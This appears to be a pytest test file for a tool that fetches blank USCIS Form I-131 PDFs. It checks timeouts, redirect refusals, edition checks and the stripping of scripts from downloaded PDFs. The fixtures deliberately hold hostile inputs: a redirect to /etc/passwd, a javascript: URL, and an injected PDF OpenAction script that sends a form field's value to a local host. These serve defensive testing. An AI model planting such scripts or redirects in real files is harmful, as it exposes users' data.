"""formfill.forms: the download of a blank and the forms folders (issue 17).

Every server here is built in the test on 127.0.0.1 and answers by hand (a raw socket), so it can trickle
header bytes, redirect anywhere or serve a doctored blank. Each refusal is exit 2, one line, nothing kept.

A dangling symlink or a symlink loop in a forms folder used to make every fill without --form, and
`forms list`, exit 2 "Cannot read the blank form" although the real blank was right there. Such an entry
is now skipped and named: a warning on stderr for a fill, a "not usable" line with the reason in
`forms list`. `kept_files` lists what no output may replace.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject, TextStringObject

from formfill import forms
from formfill.blanks import load_blank
from formfill.errors import FormError, InputError
from formfill.forms import UNREADABLE, kept_files, scan
from formfill.pdf.blank import BlankForm
from tests.helpers import SAMPLES, Answer, Home, RawServer, fresh_home, http_answer, routes, run_formfill
from tests.helpers import invoke as run

SCRIPT_KEYS = ("/JS", "/JavaScript", "/OpenAction", "/AA")


# --- a fresh user ---------------------------------------------------------------------------------------


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Home:
    return fresh_home(tmp_path, monkeypatch, own_cache=False)


def refused(home: Home, *args: str) -> str:
    """Exit 2, exactly one line on stderr (the error), nothing kept, no temporary download left."""
    result = run(*args)
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert home.leftovers() == []
    return lines[0]


def fetch_refused(home: Home, url: str) -> str:
    return refused(home, "forms", "fetch", "--url", url)


def script_keys(data: bytes) -> list[str]:
    """Every script or automatic action in any object of the file (direct or in an object stream)."""
    reader = PdfReader(io.BytesIO(data))
    numbers = {num for table in reader.xref.values() for num in table} | set(reader.xref_objStm)
    found: list[str] = []

    def walk(obj: Any, depth: int = 0) -> None:
        if depth > 50 or isinstance(obj, IndirectObject):
            return
        if isinstance(obj, DictionaryObject):
            for key, value in obj.items():
                if key in SCRIPT_KEYS or value in ("/JavaScript", "/Launch", "/SubmitForm"):
                    found.append(f"{key} {value!s:.40}")
                walk(value, depth + 1)
        elif isinstance(obj, ArrayObject):
            for value in obj:
                walk(value, depth + 1)

    for num in sorted(numbers):
        if num:
            walk(reader.get_object(num))
    walk(reader.trailer)
    return found


# --- 1. one deadline for the whole exchange, headers included ------------------------------------------


@pytest.mark.parametrize(
    ("start", "piece", "every", "timeout"),
    [
        (b"HTTP/1.1 200 OK\r\nX-Slow: ", b"a", 0.05, 0.3),  # a header byte at a time, well inside the idle bound
        (b"HTTP/1.1 200 OK\r\nX-Slow: ", b"a", 0.25, 0.6),  # one byte a little inside each idle bound, for ever
        (b"HTTP/1.1 200 OK\r\n", b"X-Line: value\r\n", 0.1, 0.4),  # header line after header line
        (b"HTTP/1.1 2", b"0", 0.1, 0.4),  # not even the status line ends
    ],
    ids=["fast-header-bytes", "slow-header-bytes", "header-lines", "status-line"],
)
def test_a_server_that_trickles_headers_is_cut_off_at_ten_times_the_timeout(
    home: Home, start: bytes, piece: bytes, every: float, timeout: float
) -> None:
    def answer(conn: socket.socket, path: str) -> None:
        server.trickle(conn, start, piece, every)

    with RawServer(answer) as server:
        began = time.monotonic()
        line = refused(home, "forms", "fetch", "--url", f"{server.url}/i-131.pdf", "--timeout", str(timeout))
        took = time.monotonic() - began
    assert f"127.0.0.1 did not send it within {10 * timeout:g} s" in line
    # The overall deadline, not the idle bound, and well before the server's own 20 s are over.
    assert 10 * timeout - 0.1 <= took < 10 * timeout + 5, took


def test_the_deadline_holds_through_a_subprocess_and_the_environment_setting(home: Home, tmp_path: Path) -> None:
    """As the issue measured it: FORMFILL_FETCH_TIMEOUT and a fresh process, header bytes trickling."""
    import os
    import subprocess

    def answer(conn: socket.socket, path: str) -> None:
        server.trickle(conn, b"HTTP/1.1 200 OK\r\nX-Slow: ", b"a", 0.1)

    with RawServer(answer) as server:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("FORMFILL_", "XDG_"))}
        env.update(HOME=str(home.root), FORMFILL_FETCH_TIMEOUT="0.4", FORMFILL_FORMS_URL=f"{server.url}/i-131.pdf")
        began = time.monotonic()
        done = subprocess.run([sys.executable, "-m", "formfill", "forms", "fetch"], env=env, capture_output=True,
                              text=True, timeout=30)
        took = time.monotonic() - began
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines() == [done.stderr.strip()] and "did not send it within 4 s" in done.stderr
    assert took < 15, took  # the server trickles for 20 s


def test_a_silent_server_still_gets_the_idle_message(home: Home) -> None:
    def answer(conn: socket.socket, path: str) -> None:
        server.stopped.wait(5)

    with RawServer(answer) as server:
        began = time.monotonic()
        line = refused(home, "forms", "fetch", "--url", f"{server.url}/i-131.pdf", "--timeout", "0.3")
        assert time.monotonic() - began < 3
    assert "no answer from 127.0.0.1 within 0.3 s" in line


def test_a_name_lookup_that_hangs_is_bounded_too(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    real = socket.getaddrinfo

    def slow(*args: Any, **kwargs: Any) -> Any:
        time.sleep(4)
        return real(*args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", slow)
    began = time.monotonic()
    with pytest.raises(InputError, match=r"no answer from formfill-slow-dns\.test within 0\.3 s"):
        forms.download("http://formfill-slow-dns.test/i-131.pdf", 0.3)
    assert time.monotonic() - began < 2


# --- 2. never leave http(s): a redirect is checked before anything connects to it ----------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A port that records whether anything connects to it."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(4)
        sock.settimeout(0.5)
        yield sock


@pytest.mark.parametrize("scheme", ["ftp", "file", "gopher", "javascript"])
def test_a_redirect_out_of_http_is_refused_before_connecting(
    home: Home, listener: socket.socket, scheme: str
) -> None:
    port = listener.getsockname()[1]
    target = {
        "ftp": f"ftp://127.0.0.1:{port}/i-131.pdf",
        "file": "file:///etc/passwd",
        "gopher": f"gopher://127.0.0.1:{port}/1",
        "javascript": "javascript:alert(1)",
    }[scheme]
    with RawServer(routes({"/i-131.pdf": http_answer("302 Found", headers={"Location": target})})) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert f"redirected to {target}, which formfill does not download from" in line
    assert "nothing was downloaded" in line and "formfill forms add PATH" in line
    with pytest.raises(TimeoutError):
        listener.accept()  # nothing ever connected to the redirect's target


def test_a_redirect_to_a_url_without_a_host_is_refused(home: Home) -> None:
    nowhere = http_answer("301 Moved", headers={"Location": "https://:443/i-131.pdf"})
    with RawServer(routes({"/i-131.pdf": nowhere})) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert "which formfill does not download from" in line


# --- 3. redirect loops and chains: one line -------------------------------------------------------------


def redirect(to: str, status: str = "302 Found") -> bytes:
    return http_answer(status, b"<a>moved</a>", {"Location": to})


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        ({"/i-131.pdf": redirect("/i-131.pdf")}, "redirects in a loop (back to http://127.0.0.1:"),
        ({"/i-131.pdf": redirect("/b"), "/b": redirect("i-131.pdf", "307 Temporary Redirect")},
         "redirects in a loop"),
        ({"/i-131.pdf": redirect("/r1"), **{f"/r{i}": redirect(f"/r{i + 1}", "301 Moved") for i in range(1, 7)}},
         "redirected more than 5 times; nothing was downloaded"),
        ({"/i-131.pdf": http_answer("302 Found")}, "answered HTTP 302, a redirect that names no target"),
    ],
    ids=["self", "two-step", "too-many", "no-location"],
)
def test_redirect_trouble_is_one_line(home: Home, table: dict[str, bytes], expected: str) -> None:
    with RawServer(routes(table)) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
        assert len(server.paths) <= 6  # never more than the first request and five redirects
    assert expected in line
    assert f"{server.url}/i-131.pdf" in line


def test_five_redirects_are_followed(home: Home, blank_plain: Path) -> None:
    table = {"/i-131.pdf": redirect("/r1"), **{f"/r{i}": redirect(f"/r{i + 1}") for i in range(1, 5)}}
    table["/r5"] = http_answer("200 OK", blank_plain.read_bytes(), {"Content-Type": "application/pdf"})
    with RawServer(routes(table)) as server:
        result = run("forms", "fetch", "--url", f"{server.url}/i-131.pdf")
        assert server.paths == ["/i-131.pdf", "/r1", "/r2", "/r3", "/r4", "/r5"]
    assert result.exit_code == 0, result.output
    assert (home.forms / "i-131_01-20-25.pdf").is_file()


def test_what_a_server_says_cannot_break_the_line(home: Home) -> None:
    """A reason phrase with terminal escapes and a Location folded over two lines stay one plain line."""
    table = {
        "/i-131.pdf": b"HTTP/1.1 302 Found\r\nLocation: /next\r\n\tsecond-line\r\nContent-Length: 0\r\n\r\n",
        "/next\tsecond-line": b"",  # never asked for: the target is quoted
    }

    def answer(conn: socket.socket, path: str) -> None:
        if path == "/i-131.pdf":
            conn.sendall(table[path])
        else:
            conn.sendall(b"HTTP/1.1 404 Not \x1b[31mFound\x07\r\nContent-Length: 0\r\n\r\n")

    with RawServer(answer) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert "answered HTTP 404" in line
    assert "\x1b" not in line and "\x07" not in line


# --- 4. an older edition is an outdated mirror; a newer one means updating formfill ----------------------


def served_pdf(data: bytes) -> Answer:
    return routes({"/i-131.pdf": http_answer("200 OK", data, {"Content-Type": "application/pdf"})})


def test_a_mirror_serving_the_superseded_edition_is_called_outdated(home: Home, blank_2019: Path) -> None:
    with RawServer(served_pdf(blank_2019.read_bytes())) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert f"{server.url}/i-131.pdf serves edition 04/24/19 of Form I-131, older than the edition formfill fills " \
           "(01/20/25)" in line
    assert "outdated copy" in line and "FORMFILL_FORMS_URL" in line
    assert "Update formfill" not in line and "USCIS has published" not in line


def edition_changed(blank: Path, edition: str) -> bytes:
    """The real blank with every page barcode naming another edition (what identifies the edition)."""
    writer = PdfWriter(clone_from=PdfReader(blank))
    for page in writer.pages:
        for ref in page.get("/Annots", []):
            annot = ref.get_object()
            if "BarCode" in str(annot.get("/T", "")) and "/V" in annot:
                annot[NameObject("/V")] = TextStringObject(str(annot["/V"]).replace("01/20/25", edition))
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def test_a_newer_edition_still_says_update_formfill(home: Home, blank_plain: Path) -> None:
    with RawServer(served_pdf(edition_changed(blank_plain, "09/01/26"))) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert "USCIS has published edition 09/01/26 of Form I-131" in line
    assert "this formfill supports 01/20/25. Update formfill" in line
    assert "outdated" not in line


# --- 5. nothing formfill keeps carries a script ----------------------------------------------------------


def with_scripts(blank: Path) -> bytes:
    """The real blank with an /OpenAction script, a document-level script and automatic actions on a page."""
    writer = PdfWriter(clone_from=PdfReader(blank))
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.launchURL('http://127.0.0.1:9/?'+this.getField('x').value)"),
    })
    script = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(2)")})
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({
        NameObject("/O"): DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}),
    })
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


@pytest.mark.slow
def test_a_downloaded_blank_with_scripts_is_kept_without_them(
    home: Home, blank_plain: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    doctored = with_scripts(blank_plain)
    assert len(script_keys(doctored)) >= 4  # the scan sees what was injected
    with RawServer(served_pdf(doctored)) as server:
        result = run("forms", "fetch", "--url", f"{server.url}/i-131.pdf")
    assert result.exit_code == 0, result.output
    warned = [r.getMessage() for r in caplog.records if "removed them" in r.getMessage()]
    assert len(warned) == 1 and f"the blank {server.url}/i-131.pdf carried 3 script(s)" in warned[0], warned
    caplog.clear()
    stored = home.forms / "i-131_01-20-25.pdf"
    kept = stored.read_bytes()
    assert kept != doctored
    assert script_keys(kept) == []
    assert kept == load_blank(doctored).data  # the cleaned copy of exactly the bytes checked
    assert [p.name for p in home.forms.iterdir()] == [stored.name]
    # `forms add` of the same file keeps the same cleaned bytes.
    stored.unlink()
    path = tmp_path / "doctored.pdf"
    path.write_bytes(doctored)
    added = run("forms", "add", str(path))
    assert added.exit_code == 0, added.output
    assert stored.read_bytes() == kept
    # and the kept copy fills like any blank, with no warning about scripts any more
    filled = run("fill", str(SAMPLES / "re-parole.json"), "-o", str(tmp_path / "out.pdf"), "--offline")
    assert filled.exit_code == 0, filled.output
    assert not [r for r in caplog.records if "removed them" in r.getMessage()]


def test_the_authentic_blank_is_kept_cleaned_too(home: Home, blank_encrypted: Path) -> None:
    """uscis.gov's own file carries Adobe's scripts (for its XFA layer): the kept copy carries none."""
    assert script_keys(blank_encrypted.read_bytes())
    with RawServer(served_pdf(blank_encrypted.read_bytes())) as server:
        result = run("forms", "fetch", "--url", f"{server.url}/i-131.pdf")
    assert result.exit_code == 0, result.output
    kept = (home.forms / "i-131_01-20-25.pdf").read_bytes()
    assert script_keys(kept) == []
    assert b"/XFA" not in kept and b"/Encrypt" not in kept


# --- the first ring still holds --------------------------------------------------------------------------


def test_an_oversized_answer_without_length_is_cut_at_the_bound(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(forms, "MAX_DOWNLOAD", 100_000)

    def answer(conn: socket.socket, path: str) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nConnection: close\r\n\r\n%PDF-1.7\n")
        for _ in range(40):  # 2.5 MB, far past the bound
            conn.sendall(b"0" * 65536)

    with RawServer(answer) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert "larger than 97 KB" in line


def test_a_body_cut_short_keeps_nothing(home: Home, blank_plain: Path) -> None:
    data = blank_plain.read_bytes()

    def answer(conn: socket.socket, path: str) -> None:
        conn.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(data)}\r\n\r\n".encode() + data[: len(data) // 3])

    with RawServer(answer) as server:
        line = fetch_refused(home, f"{server.url}/i-131.pdf")
    assert "was cut off" in line


# The forms folders: entries that cannot be read, and what no output may replace.

PROFILE = SAMPLES / "re-parole.json"
posix_only = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and symlinks (POSIX)")


def run_cli(*args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """The real CLI with exactly the environment `env` (a variable missing from it is removed)."""
    exact = {key: env.get(key) for key in {*os.environ, *env}}
    return run_formfill(*args, env=exact, text=True, timeout=180, cwd=cwd)


@pytest.fixture
def folder_with_traps(tmp_path: Path, blank_plain: Path) -> Path:
    """A per-user forms folder holding the real blank and, sorting before it, names that cannot be read."""
    forms = tmp_path / "home" / "forms"
    forms.mkdir(parents=True)
    shutil.copyfile(blank_plain, forms / blank_plain.name)
    (forms / "a-dangling.pdf").symlink_to("/nonexistent/share/i-131.pdf")  # a share not mounted
    (forms / "b-loop.pdf").symlink_to("b-loop.pdf")
    os.mkfifo(forms / "c-pipe.pdf")
    return forms


@posix_only
def test_scan_names_unreadable_entries_and_still_finds_the_blank(folder_with_traps: Path) -> None:
    found = dict(scan([folder_with_traps]))
    assert isinstance(found[folder_with_traps / "i-131_01-20-25.pdf"], BlankForm)
    reasons = {p.name: r for p, r in found.items() if isinstance(r, FormError)}
    assert sorted(reasons) == ["a-dangling.pdf", "b-loop.pdf", "c-pipe.pdf"]
    assert all(r.problems[0].code == UNREADABLE for r in reasons.values())
    assert "is a symlink to /nonexistent/share/i-131.pdf, which does not exist" in reasons["a-dangling.pdf"].message
    assert "symlink loop" in reasons["b-loop.pdf"].message
    assert "not a regular file" in reasons["c-pipe.pdf"].message


@posix_only
def test_fill_and_forms_list_skip_and_name_a_dangling_symlink_or_a_loop(folder_with_traps: Path,
                                                                       tmp_path: Path) -> None:
    home = folder_with_traps.parent
    env = {**os.environ, "FORMFILL_HOME": str(home), "FORMFILL_CACHE_DIR": str(tmp_path / "cache"),
           "FORMFILL_OFFLINE": "1"}
    env.pop("FORMFILL_FORMS_DIR", None)
    done = run_cli("fill", str(PROFILE), "-o", str(tmp_path / "out.pdf"), env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out.pdf").read_bytes().startswith(b"%PDF")
    warnings = [line for line in done.stderr.splitlines() if line.startswith("formfill: warning:")]
    assert len(warnings) == 3, done.stderr
    assert any(f"{folder_with_traps / 'a-dangling.pdf'} is a symlink to /nonexistent/share/i-131.pdf, which does "
               "not exist; skipped" in w for w in warnings)
    assert any(f"{folder_with_traps / 'b-loop.pdf'} cannot be read (a symlink loop); skipped" in w for w in warnings)

    listed = run_cli("forms", "list", "--json", env=env, cwd=tmp_path)
    assert listed.returncode == 0, listed.stderr
    forms = {Path(f["path"]).name: f for f in json.loads(listed.stdout)["forms"]}
    assert forms["i-131_01-20-25.pdf"]["supported"] is True
    for name, why in (("a-dangling.pdf", "which does not exist"), ("b-loop.pdf", "symlink loop"),
                      ("c-pipe.pdf", "not a regular file")):
        assert forms[name]["supported"] is False and why in forms[name]["reason"], forms[name]


def test_kept_files_lists_blanks_cache_maps_and_rules(tmp_path: Path, blank_plain: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    shared, home, cache = tmp_path / "shared", tmp_path / "home", tmp_path / "cache"
    (shared / "sub").mkdir(parents=True)
    (home / "forms").mkdir(parents=True)
    cache.mkdir()
    shutil.copyfile(blank_plain, shared / "sub" / "a.pdf")
    (home / "forms" / "b.pdf").write_bytes(b"%PDF")
    for name in ("prepared-x-v3.pdf", "prepared-x-v3.json", "baseline-y-v2.json", "notes.txt"):
        (cache / name).write_text("x")
    monkeypatch.setenv("FORMFILL_FORMS_DIR", str(shared))
    monkeypatch.setenv("FORMFILL_HOME", str(home))
    monkeypatch.setenv("FORMFILL_CACHE_DIR", str(cache))
    kept = {p: what for p, what in kept_files()}
    assert kept[shared / "sub" / "a.pdf"].startswith("the blank form") and home / "forms" / "b.pdf" in kept
    assert {p.name for p in kept if p.parent == cache} == {"prepared-x-v3.pdf", "prepared-x-v3.json",
                                                            "baseline-y-v2.json"}
    # The maps and rules live in the form package folder (field_maps/i-131/) since the package work of issue 18.
    assert any(p.name == "01-20-25.json" and "field map" in what for p, what in kept.items())
    assert any(p.name == "package-rules.json" and p.is_file() for p in kept)


def test_adding_an_older_edition_formfill_only_reads_says_so_and_how_to_fill(home: Home, blank_2019: Path) -> None:
    line = refused(home, "forms", "add", str(blank_2019))
    assert "edition 04/24/19" in line and "older edition formfill reads" in line and "does not fill" in line
    assert "formfill fills Form I-131 edition 01/20/25" in line and "formfill forms fetch" in line
    assert "add a field map" not in line
